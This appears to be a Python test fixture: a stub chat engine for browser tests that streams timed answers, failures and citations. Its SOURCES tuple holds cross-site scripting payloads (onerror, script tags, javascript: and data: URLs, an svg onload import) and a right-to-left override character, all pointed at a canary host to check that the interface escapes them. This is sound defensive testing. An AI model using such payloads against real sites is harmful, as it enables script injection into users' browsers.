"""A bot for the browser tests: it speaks slowly, fails, keeps silent or is hostile, as the question asks."""

from __future__ import annotations

import re
from collections.abc import Iterator

from app.engines.base import CancelToken, Citation, CitationsChunk, NotFound

MARK = "canary.example.test"
"""The host that hostile texts point to: a request to it, or a script that speaks of it, is a break-in."""
SOURCES = (
    Citation("<img src=x onerror=window.pwned=1>", f"https://{MARK}/%22%3E", "<script>window.pwned=3</script>"),
    Citation("Script", "javascript:window.pwned=2", "[a](javascript:window.pwned=4)"),
    Citation("Data", f"data:text/html,<script src=//{MARK}></script>", "![a](https://canary.example.test/a.png)"),
    Citation("Honest & \u202egninraw", f"https://{MARK}/page?a=1&b=2#part", f'<svg onload=import("//{MARK}")>'),
)
GOOD = (
    Citation("First page", "https://pages.example.test/first#part", "A passage of the first page."),
    Citation("Second page", "https://pages.example.test/second", "A passage of the second page."),
)
PROSE = (
    "Baton keeps a conversation for one day. After that Redis forgets it by itself. "
    "Nobody has to sweep. A visitor may end it sooner, and may delete it. The text then goes at once."
)


def answer(question: str, stop: CancelToken) -> Iterator[str | CitationsChunk | NotFound]:
    """``fail`` breaks off, ``silent`` says nothing for 30 s, ``long`` says 120 words in 6 s; else 30 words in 1.5 s.

    ``tardy`` has no word for 7 s and then says two, or fails; ``quick`` answers at once, ``say:`` says the rest one
    character at a time, ``spelled:`` so too but 10 ms apart, ``slowly:`` word by word, ``prose`` a few sentences so,
    ``sources`` names two pages, ``traps`` hostile ones, ``words=60 pace=0.1`` that many words, so many seconds apart;
    ``riddle`` it does not know.
    """
    if "silent" in question:
        stop.wait(30)
    elif "tardy" in question:
        stop.wait(7)
        if "fail" in question:
            raise RuntimeError("as asked")
        yield "Better late."
    elif "say:" in question:
        yield from question.partition("say:")[2]
    elif "spelled:" in question:
        yield from _paced([*question.partition("spelled:")[2]], 0.01, stop, end="")
    elif "slowly:" in question:
        yield from _paced(question.partition("slowly:")[2].split(" "), 0.08, stop)
    elif "riddle" in question:
        yield "That is not in the pages."
        yield NotFound()
    elif "quick" in question:
        yield "A quick answer."
    elif "prose" in question:
        yield from _paced(PROSE.split(" "), 0.03, stop)
    elif "sources" in question or "traps" in question:
        yield "As the pages say [1] [2]."
        yield CitationsChunk(GOOD if "sources" in question else SOURCES)
    else:
        yield from _counted(question, stop)


def _counted(question: str, stop: CancelToken) -> Iterator[str]:
    asked = dict(re.findall(r"(words|pace)=([0-9.]+)", question))
    number = int(asked.get("words") or (120 if "long" in question else 30))
    for word in _paced([f"w{n}" for n in range(number)], float(asked.get("pace") or 0.05), stop):
        yield word
        if "fail" in question and word == "w3 ":
            raise RuntimeError("as asked")


def _paced(words: list[str], seconds: float, stop: CancelToken, end: str = " ") -> Iterator[str]:
    for word in words:
        yield word + end
        if stop.wait(seconds):
            return


def words(number: int) -> str:
    """What the bot says in so many words, as the screen shows it."""
    return " ".join(f"w{n}" for n in range(number))
